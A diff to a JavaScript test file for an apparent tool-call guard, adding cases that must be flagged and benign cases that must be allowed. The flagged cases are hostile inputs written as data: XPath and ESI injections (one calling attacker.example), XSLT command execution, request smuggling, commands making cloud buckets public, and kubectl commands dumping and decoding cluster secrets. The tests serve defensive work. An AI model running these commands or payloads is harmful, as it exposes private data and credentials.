@@ -41,6 +41,12 @@ describe('tool poison: redirects, header breaks and unquoted tautologies', () =>
     ['XSLT calling PHP', 'transform_xml', { xslt: '<xsl:value-of select="php:function(\'system\',\'id\')"/>' }, 'xslt_injection'],
     ['a smuggled request', 'http_request', { url: 'https://api.example.com/', body: 'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 13\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nSMUGGLED' }, 'request_smuggling'],
     ['a regex with nested quantifiers', 'validate_input', { pattern: '^(a+)+$', value: 'aaaaaaaaaaaaaaaaaaaaaaaa!' }, 'redos'],
+    ['an XPath climbing to every node', 'xml_lookup', { search: "']/..//*[contains(name(),'pass')]|//user[name='" }, 'xpath_injection'],
+    ['an Edge Side Include', 'post_comment', { body: '<esi:include src="http://attacker.example/steal" />' }, 'esi_injection'],
+    ['a bucket opened to everyone', 'run_shell', { command: 'gsutil iam ch allUsers:objectViewer gs://company-private-data' }, 'security_tampering'],
+    ['an S3 ACL made public', 'run_shell', { command: 'aws s3api put-bucket-acl --bucket payroll-exports --acl public-read' }, 'security_tampering'],
+    ['cluster secrets printed', 'run_shell', { command: 'kubectl get secrets -A -o yaml' }, 'credential_access'],
+    ['one secret decoded', 'run_shell', { command: "kubectl get secret db-creds -o jsonpath='{.data.password}' | base64 -d" }, 'credential_access'],
   ])('flags %s', (_label, tool, args, family) => {
     const r = judge(tool, args);
     expect(r.decision).not.toBe('allow');
@@ -53,6 +59,10 @@ describe('tool poison: redirects, header breaks and unquoted tautologies', () =>
     ['a regex without nested quantifiers', 'validate_input', { pattern: '^[a-z]+(?:-[a-z]+)*$' }],
     ['docs that quote a ReDoS example', 'summarize_content', { content: "Example: ```sh npx safe-regex2 '(x+x+)+y' ```" }],
     ['an ordinary XSLT', 'transform_xml', { xslt: '<xsl:value-of select="/order/id"/>' }],
+    ['an ordinary XPath', 'xml_lookup', { xpath: "/catalog/book[@id='bk101']/../title" }],
+    ['secrets listed by name only', 'run_shell', { command: 'kubectl get secrets -n staging' }],
+    ['a bucket listed', 'run_shell', { command: 'gsutil ls -L gs://company-private-data' }],
+    ['a page that explains public-read', 'summarize_content', { content: 'Never grant public-read or allUsers on buckets that hold customer data.' }],
     ['a whole message with its header block', 'summarize_content', { content: 'From: anna@contoso.example\nTo: team@contoso.example\nSubject: Offsite\n\nThe offsite is confirmed for Oct 12.' }],
     ['a longer note quoting a forwarded header', 'summarize_content', { content: 'See below.\nFrom: bob@contoso.example\nSent: Monday\nSubject: Budget\n\nNumbers attached.\nThanks' }],
   ])('allows %s', (_label, tool, args) => {
